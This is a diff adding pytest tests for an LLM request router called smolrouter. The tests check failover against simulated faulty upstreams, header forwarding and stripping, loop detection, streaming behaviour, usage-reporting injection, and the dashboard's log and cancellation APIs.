+    """The URL of a port that does not answer, as of a box that is switched off."""
+    listener = socket.create_server(("127.0.0.1", 0), backlog=0)
+    HELD.append(listener)
+    for _ in range(4):  # fill its queue
+        HELD.append(socket.socket())
+        HELD[-1].setblocking(False)
+        HELD[-1].connect_ex(listener.getsockname())
+    return f"http://127.0.0.1:{listener.getsockname()[1]}"
+
+
+def playing(*steps: Step) -> Callable[[], str]:
+    """The URL of a new upstream that always says this."""
+    return lambda: Upstream(lambda received: steps).url
+
+
+def busy(status: int, *fields: tuple[str, str]) -> Callable[[], str]:
+    """The URL of a new upstream that always answers this status."""
+    return playing(*json_answer({"error": {"message": f"no: {status}"}}, status, fields))
+
+
+FAILURES: dict[str, Callable[[], str]] = {
+    "refused": refusing,
+    "connect timeout": unreachable,
+    "no TLS": lambda: Upstream().url.replace("http:", "https:"),
+    "400": busy(400),
+    "404": busy(404),
+    "429": busy(429, ("Retry-After", "1")),
+    "500": busy(500),
+    "503": busy(503),
+    "late head": playing(HANG),
+    "reset": playing(DROP),
+    "closed": playing(CLOSE),
+    "half a head": playing(b"HTTP/1.1 200 OK\r\nContent-", CLOSE),
+    "noise": playing(b"SSH-2.0-OpenSSH_9.6\r\n\r\n", CLOSE),
+    "two lengths": playing(*upstream_head(b"Content-Length: 2\r\nContent-Length: 3")),
+    "head and no content": playing(*upstream_head(b"Content-Length: 9", b"")),
+    "head and no chunk": playing(*upstream_head(CODED, b"")),
+    "bad first chunk": playing(*upstream_head(CODED, b"zz\r\n")),
+    "empty content": playing(*answer(b"")),
+    "empty stream": playing(*stream_answer([])),
+}
+OTHERS: dict[str, Callable[[], str]] = {
+    "sound": lambda: Upstream().url,
+    "half a stream": playing(*broken_stream(DROP)),
+    "half a content": playing(*upstream_head(b"Content-Length: 99", b'{"Hello": "')),
+}
+NOBODY: dict[str, tuple[tuple[str, ...], int, str]] = {
+    "refused once": (("refused",), 502, "refused"),
+    "late": (("late head",), 504, "2 s (REQUEST_TIMEOUT)"),
+    "unreachable": (("connect timeout",), 504, "0.5 s (CONNECT_TIMEOUT)"),
+    "refused twice": (("refused", "refused"), 502, "refused"),
+    "late, refused": (("late head", "refused"), 502, "2 s (REQUEST_TIMEOUT)"),
+    "refused, late": (("refused", "late head"), 504, "2 s (REQUEST_TIMEOUT)"),
+    "refused, unreachable": (
+        ("refused", "connect timeout"), 504, "0.5 s (CONNECT_TIMEOUT)"),
+    "refused, reset": (("refused", "reset"), 502, "refused"),
+    "refused, noise": (("refused", "noise"), 502, "refused"),
+}  # fmt: skip
+ALIASES: dict[str, tuple[str, ...]] = {
+    **{failure: (failure, "sound") for failure in FAILURES},
+    **{nobody: failures for nobody, (failures, _, _) in NOBODY.items()},
+    "half a stream": ("half a stream", "sound"),
+    "half a content": ("half a content", "sound"),
+}
+
+
+@functools.lru_cache
+def troubled() -> Router:
+    """A router with an alias `{name} {way}` for each of ALIASES and of ALL_WAYS.
+
+    Each has servers of its own, which are paths of the same ports: none is cooling
+    for what happened in another test.
+    """
+    urls = {kind: make() for kind, make in {**FAILURES, **OTHERS}.items()}
+    servers = {"sound": urls["sound"]}
+    aliases = {}
+    for name, way in itertools.product(ALIASES, range(len(ALL_WAYS))):
+        instances = []
+        for turn, kind in enumerate(ALIASES[name]):
+            server = "sound" if kind == "sound" else f"{name} {way} {turn}"
+            servers.setdefault(server, f"{urls[kind]}/{len(servers)}")
+            instances.append({"server": server, "model": kind})
+        aliases[f"{name} {way}"] = {"instances": instances}
+    settings = {"CONNECT_TIMEOUT": 0.5, "REQUEST_TIMEOUT": 2}
+    return router_for(settings, {"servers": servers, "aliases": aliases})
+
+
+def ask_troubled(name: str, way: int) -> Answer:
+    """Ask one of the aliases of `troubled()` in one of the ways."""
+    path, stream = ALL_WAYS[way]
+    document = asking(path, f"{name} {way}", stream)
+    return request(troubled().port, "POST", path, document)
+
+
+def in_all_ways(name: str) -> list[tuple[str, bool, Answer]]:
+    """Each way, and what was answered to it; asked all at once."""
+    assert troubled().port  # started before the threads are
+    ways = range(len(ALL_WAYS))
+    answers = at_once(ask_troubled, [name] * len(ways), ways, workers=len(ways))
+    return [(*way, got) for way, got in zip(ALL_WAYS, answers, strict=True)]
+
+
+@pytest.mark.parametrize("failure", FAILURES)
+def test_failover(failure: str) -> None:
+    for path, stream, got in in_all_ways(failure):
+        assert (got.status, got.whole) == (200, True), (path, stream, got)
+        assert got.get("X-SmolRouter-Attempts") == "2", (path, stream, got)
+        assert got.get("X-SmolRouter-Model") == "sound"
+        if (path, True) in ALL_WAYS:
+            assert got.text == "You said: hi", (path, stream, got)
+
+
+def test_nobody_answered() -> None:
+    assert troubled().port
+    ways = [ALL_WAYS.index((CHAT, True)), ALL_WAYS.index(("/api/chat", False))]
+    asked = list(itertools.product(NOBODY, ways))
+    answers = at_once(ask_troubled, *zip(*asked, strict=True), workers=len(asked))
+    for (name, way), got in zip(asked, answers, strict=True):
+        failures, status, reason = NOBODY[name]
+        assert (name, got.status) == (name, status), got
+        error = got.json["error"]
+        if way == ways[0]:
+            assert set(error) == {"message", "type", "code", "param"}
+            error = error["message"]
+        assert reason in error
+        for turn, kind in enumerate(failures):  # each attempt is named
+            assert f"{name} {way} {turn}/{kind}" in error
+
+
+def test_never_a_second_answer_after_a_first_byte() -> None:
+    for path, stream, got in in_all_ways("half a stream"):
+        if stream:
+            assert b"Hello" in got.content and b"You said" not in got.content, path
+            assert got.documents[-1]["error"]
+            assert b"[DONE]" not in got.content and b'"done":true' not in got.content
+
+
+def test_never_half_an_answer_and_a_whole_one() -> None:
+    for path, stream, got in in_all_ways("half a content"):
+        assert not (b"Hello" in got.content and b"You said" in got.content), path
+        assert ended_badly(got) or (got.status, got.whole) == (200, True), (
+            path,
+            stream,
+        )
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_last_answer_passes_through_byte_for_byte(stream: bool) -> None:
+    content = '{ "error" : {"message":"später", "code" : 4.290 } }\n'.encode()
+    fields = [("Retry-After", "17"), ("X-Odd", "a;b")]
+    last = playing(*answer(content, 429, fields, "application/json; charset=utf-8"))
+    with both(busy(503)(), last()) as router:
+        got = ask(router, "pair", stream=stream)
+    assert (got.status, got.content) == (429, content)
+    assert (got.get("Retry-After"), got.get("X-Odd")) == ("17", "a;b")
+    assert got.get("Content-Type") == "application/json; charset=utf-8"
+
+
+def test_last_answer_is_the_last_one_that_was_http() -> None:
+    with both(busy(418, ("Retry-After", "5"))(), refusing()) as router:
+        got = ask(router, "pair")
+        assert (got.status, got.get("Retry-After")) == (418, "5")
+        assert got.json == {"error": {"message": "no: 418"}}
+        document = asking("/api/chat", "pair", True)
+        got = request(router.port, "POST", "/api/chat", document)
+        assert (got.status, got.get("Retry-After")) == (418, "5")
+        assert got.json["error"]
+
+
+SHORT_STREAMS = {
+    "no empty line": chunked(b'data: {"choices":[]}\n'),
+    "closed": (b"data: [DONE]\n", CLOSE),
+    "CR alone": chunked(b"data: [DONE]\r\r"),
+    "gzip": chunked(gzip.compress(event({"choices": []}))),
+}
+
+
+@pytest.mark.parametrize("name", SHORT_STREAMS)
+def test_a_short_stream_with_a_clean_end_is_an_answer(name: str) -> None:
+    fields = [("Content-Type", "text/event-stream"), ("Transfer-Encoding", "chunked")]
+    fields = fields[: 1 if name == "closed" else 2]
+    fields += [("Content-Encoding", "gzip")] * (name == "gzip")
+    first = playing(head(200, fields), *SHORT_STREAMS[name])()
+    with both(first, refusing()) as router:
+        got = ask(router, "pair", stream=True)
+        assert (got.status, got.whole, got.get("X-SmolRouter-Attempts")) == (200, True, "1")
+        assert got.content
+
+
+@pytest.mark.parametrize("said", [b'data: {"id', b": hi\n", b"\n"])
+def test_a_part_of_an_event_is_no_answer(said: bytes) -> None:
+    fields = [("Content-Type", "text/event-stream"), ("Transfer-Encoding", "chunked")]
+    first = playing(head(200, fields), *chunked(said))()
+    with both(first, playing(*sse_answer([ENDED, "[DONE]"]))()) as router:
+        got = ask(router, "pair", stream=True)
+        assert (got.status, got.whole, got.get("X-SmolRouter-Attempts")) == (200, True, "2")
+
+
+@pytest.mark.parametrize("status", [301, 400, 404, 418, 422, 429, 500, 503])
+@pytest.mark.parametrize("stream", [False, True])
+def test_single_candidate_passes_through_untouched(status: int, stream: bool) -> None:
+    content = b'{"detail" :  "<think>what it said</think>"}\n'
+    fields = [("Retry-After", "3"), ("Location", "/elsewhere")]
+    model = stage().plays(answer(content, status, fields, "application/json"))
+    for turn in (1, 2):  # and it is never excluded
+        got = ask(shared(), model, stream=stream)
+        assert (got.status, got.content) == (status, content)
+        assert got.get("Retry-After") == "3"
+        assert len(stage().heard(model)) == turn
+
+
+def test_client_leaves_and_nobody_else_is_asked() -> None:
+    with (
+        Upstream(lambda r: [HANG]) as one,
+        Upstream() as two,
+        both(one.url, two.url) as router,
+    ):
+        with connect(router.port) as sock:
+            sock.sendall(post(CHAT, chat("pair")))
+            seen = one.connection_of("m")
+        assert until(lambda: seen.closed)
+        time.sleep(0.1)
+        assert not two.heard("m")
+
+
+# --- fields ---------------------------------------------------------------------------
+
+
+def test_fields_that_travel_to_the_upstream() -> None:
+    name = stage().plays(FINE)
+    travels = [
+        ("Authorization", "Bearer sk-123"),
+        ("OpenAI-Organization", "org-1"),
+        ("Cookie", "a=b; c=d"),
+        ("traceparent", "00-1-2-01"),
+        ("X-Multi", "one"),
+        ("User-Agent", "test/1"),
+        ("X-Multi", "two"),
+        ("X-Empty", ""),
+        ("X-Latin", "caf\xe9"),
+    ]
+    request(shared().port, "POST", CHAT, chat(name), travels)
+    (heard,) = stage().heard(name)
+    for key, _ in travels:
+        assert heard.get_all(key) == [v for n, v in travels if n == key], key
+    assert heard.get_all("Host") == [stage().authority]
+    assert heard.get("Content-Type") == "application/json"
+
+
+def test_hop_by_hop_fields_stop_here_on_the_way_up() -> None:
+    name = stage().plays(FINE)
+    stops = [
+        ("Connection", ", X-Private ,,keep-alive"),
+        ("Connection", "X-SECOND"),
+        ("X-Private", "1"),
+        ("X-Second", "2"),
+        ("Keep-Alive", "timeout=5"),
+        ("TE", "trailers"),
+        ("Trailer", "X-Late"),
+        ("Upgrade", "h2c"),
+        ("Proxy-Connection", "keep-alive"),
+    ]
+    request(shared().port, "POST", CHAT, chat(name), stops)
+    (heard,) = stage().heard(name)
+    for key, _ in stops[2:]:
+        assert heard.get(key) is None, key
+    assert "x-private" not in (heard.get("Connection") or "").lower()
+
+
+@pytest.mark.parametrize("named", ["Content-Length", "Host", "Content-Type", "Via"])
+def test_connection_cannot_break_the_framing(named: str) -> None:
+    name = stage().plays(FINE)
+    got = request(shared().port, "POST", CHAT, chat(name), [("Connection", named)])
+    assert got.status == 200
+    (heard,) = stage().heard(name)
+    assert heard.json["model"] == name
+    assert heard.get_all("Host") == [stage().authority]
+    assert "smolrouter" in (heard.get("Via") or "")
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_fields_of_an_answer(stream: bool) -> None:
+    fields = [
+        ("Set-Cookie", "a=1"),
+        ("Set-Cookie", "b=2"),
+        ("X-RateLimit-Remaining", "9"),
+        ("Connection", "X-Private, ,"),
+        ("X-Private", "1"),
+        ("Keep-Alive", "timeout=9"),
+        ("Proxy-Connection", "close"),
+        ("Upgrade", "h2c"),
+        ("Server", "test"),
+    ]
+    steps = (
+        sse_answer([{"n": 1}, "[DONE]"], fields=fields)
+        if stream
+        else (json_answer({"n": 1}, fields=fields))
+    )
+    got = ask(shared(), stage().plays(steps), stream=stream)
+    assert got.get_all("Set-Cookie") == ["a=1", "b=2"]
+    assert got.get("X-RateLimit-Remaining") == "9"
+    for key in ("X-Private", "Keep-Alive", "Proxy-Connection", "Upgrade"):
+        assert got.get(key) is None, key
+    for key in ("Request-Id", "Upstream", "Model", "Route", "Attempts"):
+        assert got.get(f"X-SmolRouter-{key}"), key
+    if stream:
+        assert got.get("Cache-Control") == "no-cache, no-transform"
+        assert got.get("X-Accel-Buffering") == "no"
+
+
+def test_via_is_added_to_the_others() -> None:
+    name = stage().plays(FINE)
+    request(shared().port, "POST", CHAT, chat(name), [("Via", "1.0 fred")])
+    (heard,) = stage().heard(name)
+    assert re.fullmatch(r"1\.0 fred, 1\.1 smolrouter\S*.*", ", ".join(heard.get_all("Via")))
+
+
+def test_a_request_that_comes_round_again_is_answered_508() -> None:
+    def round_again(received: Received) -> Iterable[Step]:
+        kept = [(n, v) for n, v in received.fields if n in ("Via", "Content-Type")]
+        port = shared().port
+        got = request(port, "POST", received.target, received.content, kept)
+        return answer(got.content, got.status)
+
+    name = stage().plays(round_again)
+    got = ask(shared(), name)
+    assert got.status == 508
+    assert "error" in got.json
+    assert len(stage().heard(name)) == 1
+
+
+def test_via_of_another_smolrouter_is_no_loop() -> None:
+    name = stage().plays(FINE)
+    via = [("Via", "1.1 smolrouter, 1.1 smolrouter-0000, 1.1 other")]
+    assert request(shared().port, "POST", CHAT, chat(name), via).status == 200
+
+
+def test_accept_encoding_is_identity_where_content_may_change() -> None:
+    name = stage().plays(FINE)
+    fields = [("Accept-Encoding", "gzip, deflate, br")]
+    request(shared().port, "POST", CHAT, chat(name), fields)
+    assert stage().heard(name)[0].get_all("Accept-Encoding") == ["identity"]
+
+
+@each_openai
+def test_openai_answer_tells_how_it_was_routed(sdk: Sdk) -> None:
+    got = sdk.call(
+        ways().url,
+        "chat.completions.with_raw_response.create",
+        model="alias-talk",
+        messages=ASKED,
+    )
+    for name in ("Request-Id", "Upstream", "Model", "Route", "Attempts"):
+        assert got.headers.get(f"X-SmolRouter-{name}"), name
+    assert got.parse().choices[0].message.content == ANSWER
+
+
+# --- events leave as they come --------------------------------------------------------
+
+
+def test_the_first_event_of_an_alias_does_not_wait_for_the_second() -> None:
+    """Failover looks at the first event; what it has seen must leave at once."""
+    gate = threading.Event()
+
+    def script(received: Received) -> Iterator[Step]:
+        yield from stream_answer([event(WORDS[0])], whole=False)
+        gate.wait(PATIENCE)
+        yield from chunked(event(WORDS[1]), event(ENDED))
+
+    with Upstream(script) as upstream:
+        instances = ["box/tiny", "box/spare"]
+        routes = {"servers": {"box": upstream.url}, "aliases": {"both": {"instances": instances}}}
+        with Router(routes=routes) as router, connect(router.port) as sock:
+            sock.sendall(post(CHAT, chat("both", stream=True)))
+            first = receive_until(sock, b"one")
+            gate.set()
+            rest = receive_until(sock, b"0\r\n\r\n")
+    assert b"two" not in first and b"two" in rest
+
+
+def test_coded_stream_of_an_alias_does_not_wait() -> None:
+    """Its events cannot be told apart before it is decoded: its first octets are its begin."""
+    gate, packer = threading.Event(), zlib.compressobj(wbits=31)
+
+    def script(received: Received) -> Iterator[Step]:
+        data = packer.compress(event({"n": 1})) + packer.flush(zlib.Z_SYNC_FLUSH)
+        yield from stream_answer([data], [("Content-Encoding", "gzip")], whole=False)
+        gate.wait(PATIENCE)
+        yield from chunked(packer.flush())
+
+    with (
+        Upstream(script) as one,
+        Upstream() as two,
+        both(one.url, two.url) as router,
+        connect(router.port) as sock,
+    ):
+        sock.sendall(post(CHAT, chat("pair", stream=True)))
+        assert receive_until(sock, b'{"n":1}')
+        gate.set()
+        assert receive_until(sock, b"0\r\n\r\n")
+
+
+@pytest.mark.parametrize("path", [CHAT, "/v1/completions", "/api/chat", "/api/generate"])
+def test_each_event_leaves_before_the_next_one_comes(path: str) -> None:
+    gates = [threading.Event() for _ in range(4)]
+    key = "text" if "chat" not in path else "delta"
+
+    def script(received: Received) -> Iterator[Step]:
+        yield from stream_answer([], whole=False)
+        for number, gate in enumerate(gates):
+            text = f"number-{number} "
+            said = text if key == "text" else {"content": text}
+            yield from chunked(event({"choices": [{"index": 0, key: said}]}), end=b"")
+            gate.wait(PATIENCE)
+        yield from chunked(event("[DONE]"))
+
+    model = stage().plays(script)
+    with connect(shared().port) as sock:
+        sock.sendall(post(path, {**ASKS[path], "model": model, "stream": True}))
+        for number, gate in enumerate(gates):
+            receive_until(sock, b"number-%d " % number)
+            gate.set()
+        receive_until(sock, b"0\r\n\r\n")
+
+
+def sse(port: int, path: str, body: Any, fields: Pairs = ()) -> list[tuple[float, bytes]]:
+    """The events of a streamed answer, each with the time when it was complete."""
+    got = request(port, "POST", path, body, fields)
+    mark = b"\n" if "ndjson" in (got.get("Content-Type") or "") else b"\n\n"
+    events, held = [], b""
+    for moment, piece in got.pieces:
+        *done, held = (held + piece).split(mark)
+        events += [(moment, block) for block in done if block]
+    return events
+
+
+def test_fifty_streams_at_once_stay_apart() -> None:
+    def one(number: int) -> tuple[str, float]:
+        texts = [f"{number}.{n} " for n in range(20)]
+        sent: dict[str, float] = {}
+
+        def script(received: Received) -> Iterator[Step]:
+            yield from stream_answer(
+                [event(e) for e in deltas("<think>", "no", "</think>")], whole=False
+            )
+            for text in texts:
+                yield from chunked(event(deltas(text)[0]), end=b"")
+                sent[text] = time.monotonic()
+                yield 0.02
+            yield from chunked(event("[DONE]"))
+
+        body = chat(stage().plays(script), stream=True)
+        events = sse(shared().port, CHAT, body)
+        came = {
+            json.loads(e[6:])["choices"][0]["delta"]["content"]: at
+            for at, e in events
+            if b'"content"' in e
+        }
+        assert [t for t in came if t] == texts
+        assert events[-1][1] == b"data: [DONE]"
+        return str(number), max(came[t] - sent[t] for t in texts)
+
+    results = at_once(one, range(50), workers=50)
+    slowest = sorted(delay for _, delay in results)
+    print(
+        f"slowest event of a stream: {slowest[25] * 1e3:.1f} ms in the middle, "
+        f"{slowest[-1] * 1e3:.1f} ms at worst"
+    )
+    assert slowest[25] < 1.0
+
+
+@pytest.mark.parametrize("fault", ["framing", "reset", "head", "alias"])
+def test_what_broke_off_leaves_memory_at_once(kept: Kept, fault: str) -> None:
+    """No error keeps the octets it came through: the collector of cycles is not needed."""
+    program = altered(("        gc.freeze()", "        gc.freeze(), gc.disable()"))
+    chunk = b"%x\r\n%s\r\n" % (120_000, b"x" * 120_000)
+    faults = {
+        "framing": [head(200, [("Transfer-Encoding", "chunked")]) + chunk, 0.01, chunk + b"zz\r\n"],
+        "reset": [head(200, [("Transfer-Encoding", "chunked")]) + chunk, 0.01, chunk, 0.01, DROP],
+        "head": [b"HTTP/1.1 200 OK\r\nX: " + b"x" * 60_000 + b"\n\r\n"],
+    }
+    faults["alias"] = faults["head"]  # of each of its instances
+    model, other = stage().plays(faults[fault]), stage().plays(faults[fault])
+    instances = [f"s/{model}", f"s/{other}"]
+    routes = {"servers": {"s": stage().url}, "aliases": {"two": {"instances": instances}}}
+    settings = {**kept.settings, "ENABLE_LOGGING": "false"}
+    with Router(settings, routes, program=program) as router:
+        for _ in range(2):
+            before = memory(router)
+            for _ in range(60):
+                with contextlib.suppress(OSError, http.client.HTTPException):
+                    ask(router, "two" if fault == "alias" else model)
+        assert memory(router) < before + 3
+
+
+# --- usage that nobody asked for ------------------------------------------------------
+
+SPACED = b'data:{ "usage" : ' + USAGE + b', "choices" : [ ] }\n\n'
+BESIDE = STOP.replace(b"]}", b'],"usage":' + USAGE + b"}")
+QUOTED = WORD.replace(b"hi", b'\\"choices\\":[],\\"usage\\":{}')
+SWALLOWED = {  # what the server says, what a client sees that did not ask
+    "plain": ([WORD, STOP, EXTRA, DONE], [WORD, STOP, DONE]),
+    "spaced": ([WORD, STOP, SPACED, DONE], [WORD, STOP, DONE]),
+    "without the extra event": ([WORD, STOP, DONE], [WORD, STOP, DONE]),
+    "usage beside a choice": ([WORD, BESIDE, DONE], [WORD, BESIDE, DONE]),
+    "comments": ([PING, WORD, STOP, EXTRA, DONE], [PING, WORD, STOP, DONE]),
+    "the words in the text": ([QUOTED, STOP, EXTRA, DONE], [QUOTED, STOP, DONE]),
+    "crlf": (
+        [e.replace(b"\n", b"\r\n") for e in (WORD, STOP, EXTRA, DONE)],
+        [e.replace(b"\n", b"\r\n") for e in (WORD, STOP, DONE)],
+    ),
+}
+
+
+@pytest.mark.parametrize("said, seen", SWALLOWED.values(), ids=SWALLOWED)
+@pytest.mark.parametrize("joined", (False, True), ids=("apart", "at once"))
+def test_extra_usage_is_swallowed(said: list[bytes], seen: list[bytes], joined: bool) -> None:
+    model = bench().plays(sse_answer([b"".join(said)] if joined else said))
+    got = tell("/v1/chat/completions", chat(model, stream=True))
+    assert latest().json["stream_options"] == {"include_usage": True}
+    assert got.content == b"".join(seen)
+
+
+def timing_server(received: Received) -> Iterable[Step]:
+    """llama.cpp: timings stand in the finish, or in the event that was asked for."""
+    timings = b'"timings":{"prompt_n":3,"predicted_n":2},'
+    if "stream_options" in received.json:
+        return sse_answer([WORD, STOP, EXTRA.replace(b'"usage"', timings + b'"usage"'), DONE])
+    return sse_answer([WORD, STOP.replace(b'"choices"', timings + b'"choices"'), DONE])
+
+
+def test_server_that_tells_timings_is_not_asked_for_usage(kept: Kept) -> None:
+    upstream = Upstream(timing_server)
+    settings = {**kept.settings, "DEFAULT_UPSTREAM": upstream.url}
+    with upstream, Router(settings) as router:
+        got = [ask(router, "m", stream=True).content for _ in range(3)]
+        assert kept.written(3) == 3
+    assert got[0] == WORD + STOP + DONE
+    assert got[1] == got[2] != got[0] and b'"predicted_n":2' in got[1]
+    rows = kept.ask("SELECT prompt_tokens, completion_tokens, tokens_estimated FROM requests")
+    assert rows[1:] == [(3, 2, 0)] * 2
+
+
+def test_server_that_tells_timings_no_more_is_asked_for_usage() -> None:
+    """Another one on its port, or behind one address for several."""
+    moods = [timing_server, timing_server, well_behaved, well_behaved]
+    upstream, asked = Upstream(lambda received: moods.pop(0)(received)), []
+    with upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
+        for _ in range(4):
+            assert ask(router, "m", stream=True).status == 200
+            asked.append("stream_options" in latest(upstream).json)
+    assert asked == [True, False, False, True]
+
+
+@pytest.mark.parametrize("said", [s for s, _ in SWALLOWED.values()], ids=SWALLOWED)
+def test_usage_that_was_asked_for_arrives(said: list[bytes]) -> None:
+    model = bench().plays(sse_answer(said))
+    options = {"include_usage": True}
+    got = tell("/v1/chat/completions", chat(model, stream=True, stream_options=options))
+    assert got.content == b"".join(said)
+
+
+@pytest.mark.parametrize("options", ({}, {"include_usage": False}, {"other": 1}, None), ids=repr)
+def test_stream_options_without_usage_are_no_wish(options: Any) -> None:
+    model = bench().plays(sse_answer([WORD, STOP, EXTRA, DONE]))
+    got = tell("/v1/chat/completions", chat(model, stream=True, stream_options=options))
+    assert got.content == WORD + STOP + DONE
+    assert latest().json["stream_options"] == {**(options or {}), "include_usage": True}
+    assert latest().content.count(b'"stream_options"') == 1
+
+
+def test_whole_answers_are_not_asked_for_usage() -> None:
+    assert tell("/v1/chat/completions", chat("talk", stream=False)).status == 200
+    assert "stream_options" not in latest().json
+
+
+def old_server(received: Received) -> Iterable[Step]:
+    """A server from before stream_options."""
+    if "stream_options" in received.json:
+        message = "Unrecognized request argument supplied: stream_options"
+        return json_answer({"error": {"message": message}}, 400)
+    return well_behaved(received)
+
+
+def test_server_that_refuses_stream_options_is_remembered() -> None:
+    upstream = Upstream(old_server)
+    with upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
+        for _ in range(3):
+            body = chat("m", "hello", stream=True)
+            got = tell("/v1/chat/completions", body, router)
+            assert (got.status, got.text) == (200, ANSWER)
+        asked = ["stream_options" in r.json for r in upstream.requests if r.content]
+    assert asked == [True, False, False, False]
+
+
+@pytest.mark.parametrize("status", [400, 422])
+def test_server_that_echoes_a_bad_request_is_asked_for_usage_again(status: int) -> None:
+    def script(received: Received) -> Iterable[Step]:
+        if received.json["messages"][0]["content"] == "bad":
+            told = {"detail": "no such word in " + received.content.decode(), "x": "y" * (2 << 20)}
+            return json_answer(told, status)
+        return well_behaved(received)
+
+    with Upstream(script) as upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
+        for text in ("bad", "good"):
+            got = tell("/v1/chat/completions", chat("m", text, stream=True), router)
+            assert got.status == (status if text == "bad" else 200)
+            assert text == "good" or "no such word" in got.json["detail"]
+            assert "stream_options" in upstream.heard(f'"{text}"')[0].json
+    assert "stream_options" not in upstream.heard('"bad"')[1].json
+
+
+@whole_or_streamed
+def test_other_bad_requests_are_not_asked_again(stream: bool) -> None:
+    text = "an error that comes once"
+    got = tell("/v1/chat/completions", chat("error-400", text, stream=stream))
+    assert (got.status, got.content) == (400, dumps(own_error(400)))
+    assert len([r for r in bench().heard(text) if r.json["stream"] == stream]) == 1
+
+
+# ======================================================================================
+# 15  Dashboard and API
+# ======================================================================================
+# What the page asks, and what others may: lists, figures, events, metrics, export.
+
+# --- running requests -----------------------------------------------------------------
+
+
+def test_cancel_ends_a_request() -> None:
+    for stream in (False, True):
+        begin = [event(piece("one "))] if stream else []
+        model = stage().plays([*stream_answer(begin, whole=False), HANG] if stream else [HANG])
+        with concurrent.futures.ThreadPoolExecutor(1) as pool:
+            asking = pool.submit(ask, logging(), model, stream=stream)
+            running = until(
+                lambda: [
+                    r
+                    for r in document(logging(), "/api/inflight")
+                    if r["original_model"] == model
+                    and r["phase"] == ("streaming" if stream else "waiting")
+                ]
+            )
+            detail = document(logging(), f"/api/request/{running[0]['id']}")
+            assert detail["is_inflight"] and detail["completed_at"] is None
+            path = f"/api/inflight/{running[0]['id']}/cancel"
+            got = request(logging().port, "POST", path)
+            assert (got.status, got.content) == (200, b'{"cancelled":true}')
+            answered = asking.result(PATIENCE)
+            assert b'"code":"cancelled"' in answered.content
+            assert answered.status == (200 if stream else 499)
+        row = row_of(logging(), model)
+        assert (row["status_code"], row["error_message"]) == (499, "cancelled")
+        assert request(logging().port, "POST", path).status == 404
+        until(lambda: stage().connection_of(model).closed)
+        assert stage().connection_of(model).closed
+    for path in ("/api/inflight/x/cancel", "/api/inflight/1/cancel"):
+        assert request(logging().port, "POST", path).status == 404
+
+
+def test_running_stream_is_counted_while_it_runs() -> None:
+    gate = threading.Event()
+
+    def script(received: Received) -> Iterator[Step]:
+        yield from stream_answer(map(event, WORDS), whole=False)
+        gate.wait(PATIENCE)
+        yield from chunked(event(ENDED))
+
+    with pair(script) as (router, _), connect(router.port) as sock:
+        sock.sendall(post(CHAT, chat("tiny", stream=True)))
+        receive_until(sock, b"two")
+        rows = request(router.port, "GET", "/api/inflight").json
+        gate.set()
+        receive_until(sock, b"0\r\n\r\n")
+    assert [(row["phase"], row["tokens"]) for row in rows] == [("streaming", 2)]
+    assert rows[0]["bytes"] > 100
+
+
+# --- questions to the log -------------------------------------------------------------
+
+
+@functools.cache
+def made_log() -> Router:
+    """A router whose log was made: 4,000 rows over three days."""
+    kept = Kept(pathlib.Path(tempfile.mkdtemp(prefix="smol-")))
+    AT_END.callback(shutil.rmtree, kept.file.parent, True)
+    store = made_store(kept.file.parent)
+    tallies: Any = {}
+    rows = []
+    for number in range(4000):
+        chance = zlib.crc32(b"%d" % number) | 1 << 20
+        more = {
+            "sent_model": f"model-{number % 4}",
+            "source_ip": f"10.0.0.{number % 5}",
+            "original_model": "nick" if number % 40 == 0 else f"model-{number % 4}",
+            "duration_ms": 10.0 + number % 100,
+            "level": (chance & -chance).bit_length() - 1,
+        }
+        if number % 10 == 3:
+            more |= {"status_code": 404 if number % 20 == 3 else 502, "failed": 1}
+        if number % 3 == 0:
+            more |= {"service_type": "ollama", "stream": 1, "ttft_ms": 5.0}
+        row = made_row(number, 3 * (1 - number / 4000), **more)
+        smolrouter.add_row(tallies, row)
+        rows.append(row)
+    store.write(rows, [], tallies)
+    store.close()
+    router = Router(kept.settings)
+    AT_END.callback(router.kill)
+    return router
+
+
+def test_lists_are_paged_by_key() -> None:
+    seen: list[int] = []
+    while page := document(made_log(), f"/api/logs?limit=700&before={seen[-1] if seen else ''}"):
+        seen += [row["id"] for row in page]
+    assert len(seen) == 4000 and seen == sorted(set(seen), reverse=True)
+    assert len(document(made_log(), "/api/logs")) == 100
+
+
+FILTERS = [
+    # query, rows of 4,000
+    ("model=model-1", 1000), ("model=nick", 100), ("model=nobody", 0),
+    ("service_type=ollama", 1334),
+    ("service_type=OLLAMA", 1334), ("status=error", 400), ("status=404", 200), ("status=4xx", 200),
+    ("status=502", 200), ("status=5xx", 200), ("status=200", 3600), ("status=2xx", 3600),
+    ("source=10.0.0.2", 800), ("upstream=http%3A%2F%2Fbox%3A1", 4000), ("upstream=http://no", 0),
+    ("upstream=box:1", 4000), ("upstream=http://box:1/v1/", 4000), ("upstream=no+such+server", 0),
+    ("model=model-3&status=error", 200), ("model=model-3&source=10.0.0.3&status=404", 200),
+    ("model=nick&service_type=ollama", 34), ("source=10.0.0.0&model=nick", 100),
+    ("q=NICK", 100), ("q=model-2&status=error", 0), ("q=%25", 0), ("q=_", 0), ("q=10.0.0.4", 800),
+    ("model=&status=&q=", 4000),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("query, count", FILTERS)
+def test_filters(query: str, count: int) -> None:
+    page = document(made_log(), f"/api/logs?limit=1000&{query}")
+    assert len(page) == min(count, 1000)
+    ids = [row["id"] for row in page]
+    assert ids == sorted(ids, reverse=True)
+
+
+@pytest.mark.parametrize("path, word", [
+    ("/api/logs?limit=0", "limit"), ("/api/logs?limit=1e9", "whole number"),
+    ("/api/logs?limit=1001", "1000"), ("/api/logs?before=x", "before"),
+    ("/api/logs?before=99999999999999999999", "before"), ("/api/logs?status=6xx", "4xx"),
+    ("/api/logs?status=%D9%A4%D9%A0%D9%A4", "4xx"), ("/api/logs?service_type=bing", "openai"),
+    ("/api/logs?color=red", "color"), ("/api/stats?hours=0", "hours"),
+    ("/api/stats?hours=1.5", "whole number"), ("/api/performance?limit=-1", "limit"),
+    ("/api/performance?hours=99999", "hours"), ("/api/export?since=1y", "7d"),
+    ("/api/export?format=xml", "jsonl"), ("/api/logs?model=%00", "model"),
+    ("/api/routes?source_host=banana", "IPv4 or IPv6 address"),
+    ("/api/routes?model=x&source_host=10.0.0.0/8", "IPv4 or IPv6 address"),
